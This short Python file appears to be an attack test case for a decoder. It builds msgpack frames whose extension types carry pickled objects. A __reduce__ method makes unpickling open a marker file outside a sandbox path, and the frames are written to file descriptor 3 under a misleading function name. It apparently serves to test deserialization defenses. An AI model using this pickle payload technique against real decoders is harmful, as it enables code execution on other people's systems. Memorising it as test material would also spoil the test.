# attacks: the decoder: bytes that run code when unpickled, in every kind of extension
# success: a file is outside
# only: judge
import os
import pickle
import struct

import msgpack


class Run:
    def __reduce__(self):
        return open, ("@OUTSIDE@/@MARK@", "w")


def causal_mask(T):
    for code in range(-1, 9):
        data = msgpack.packb([2, "ok", msgpack.ExtType(code, pickle.dumps(Run())), []]) if code >= 0 else b"\xc1"
        os.write(3, struct.pack("!I", len(data)) + data)
    return None
